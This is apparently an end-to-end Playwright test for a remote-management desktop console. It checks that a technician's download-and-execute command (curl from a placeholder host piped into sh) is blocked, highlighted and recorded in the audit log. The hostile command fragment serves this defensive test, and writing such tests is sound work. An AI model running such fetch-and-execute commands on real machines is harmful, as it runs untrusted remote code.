/**
 * Journey 1 in the desktop console itself (Playwright's `_electron`): the technician signs in
 * with password + TOTP, opens a terminal on the endpoint (step-up asked and given), runs
 * `hostname` on the real agent's shell and sees the output, then types a download-and-execute
 * line and sees it blocked with the reason code and the highlighted part; the refusal is in the
 * audit. The same steps and page objects as e2e/journeys/01-technician.spec.ts, against the same
 * real server and agent (e2e/support/system.ts); only the console is the Electron app, pointed
 * at that server the way `npm start` does it (BULWARK_CONSOLE_SERVER_URL).
 *
 * Skipped, saying why, where Electron cannot run (no binary in node_modules/electron/dist).
 */
import { ConsolePage } from '../support/console';
import { expect, test as journeyTest } from '../support/fixtures';
import { DOWNLOAD_AND_EXECUTE, scriptLogs } from '../support/lines';
import { TerminalTab } from '../support/terminal';
import { electronUnavailable, launchDesktopConsole, type DesktopConsole } from './desktop-console';

const test = journeyTest.extend<{ desktop: DesktopConsole }>({
  desktop: async ({ system }, use, testInfo) => {
    const desktop = await launchDesktopConsole({ BULWARK_CONSOLE_SERVER_URL: system.adminUrl });
    try {
      await use(desktop);
    } finally {
      if (testInfo.status !== testInfo.expectedStatus) {
        const body = await desktop.window.screenshot({ fullPage: true }).catch(() => null);
        if (body) await testInfo.attach('electron-console-at-failure.png', { body, contentType: 'image/png' });
        await testInfo.attach('electron-main-output.txt', { body: desktop.output() || '(nothing)', contentType: 'text/plain' });
      }
      await desktop.close();
    }
  },
});

test.beforeAll(() => {
  const reason = electronUnavailable();
  if (reason) {
    console.log(`skipped: ${reason}`);
    test.skip(true, reason);
  }
});

test('technician in the Electron console: sign-in with TOTP, terminal with step-up, hostname, a download-and-execute line blocked', async ({
  desktop,
  system,
}, testInfo) => {
  const page = desktop.window;
  await expect(page).toHaveURL(/^app:\/\/console\//);
  const console = ConsolePage.attach(page, system);
  // The launcher's server reached the window: the sign-in form offers it.
  await console.see(console.signInForm, 'the sign-in form', { alertsAreFailures: false });
  await expect(page.getByLabel('Server address')).toHaveValue(system.adminUrl);

  await console.signIn('technician');
  await console.keepScreenshot(testInfo, 'electron-signed-in');

  const terminal = new TerminalTab(console);
  await console.goTo('Endpoints');
  await console.see(page.getByRole('cell', { name: 'Online' }), 'the endpoint shown online');
  await terminal.openEndpoint(system.endpoint.hostname);

  await terminal.open('technician', { expectStepUp: true });
  await terminal.type('hostname');
  // The shell's prompt may contain the host name too: the output is a row that is exactly it.
  await terminal.waitForRow((row) => row.trim() === system.endpoint.hostname, `the output of hostname (${system.endpoint.hostname})`);
  await console.keepScreenshot(testInfo, 'electron-hostname-output');

  const startedAt = new Date(Date.now() - 1000).toISOString();
  await terminal.type(DOWNLOAD_AND_EXECUTE);
  const panel = await terminal.refusalOf(DOWNLOAD_AND_EXECUTE);
  await expect(panel.getByLabel('Reason code download_execute')).toBeVisible();
  await expect(panel.getByText(/piped into `sh`, which runs it as code/)).toBeVisible();
  const highlighted = panel.getByLabel('Matched part of the command for download_execute').locator('mark');
  await expect(highlighted.first()).toHaveText('curl -fsSL https://updates.example.invalid/setup.sh');
  await expect(panel.getByText(/What would allow it:/)).toBeVisible();
  await console.keepScreenshot(testInfo, 'electron-terminal-blocked');

  const events = await scriptLogs(system, { q: 'updates.example.invalid/setup.sh', reasonCode: 'download_execute', from: startedAt });
  expect(
    events.map((e) => ({ user: e.userEmail, endpoint: e.endpointId, decision: e.decision })),
    'blocked event in the audit',
  ).toContainEqual({
    user: system.accounts.technician.email,
    endpoint: system.endpoint.id,
    decision: 'block',
  });

  // Signing out revokes the server session and deletes the console's keychain entry (macOS, Windows).
  await console.signOut();
});
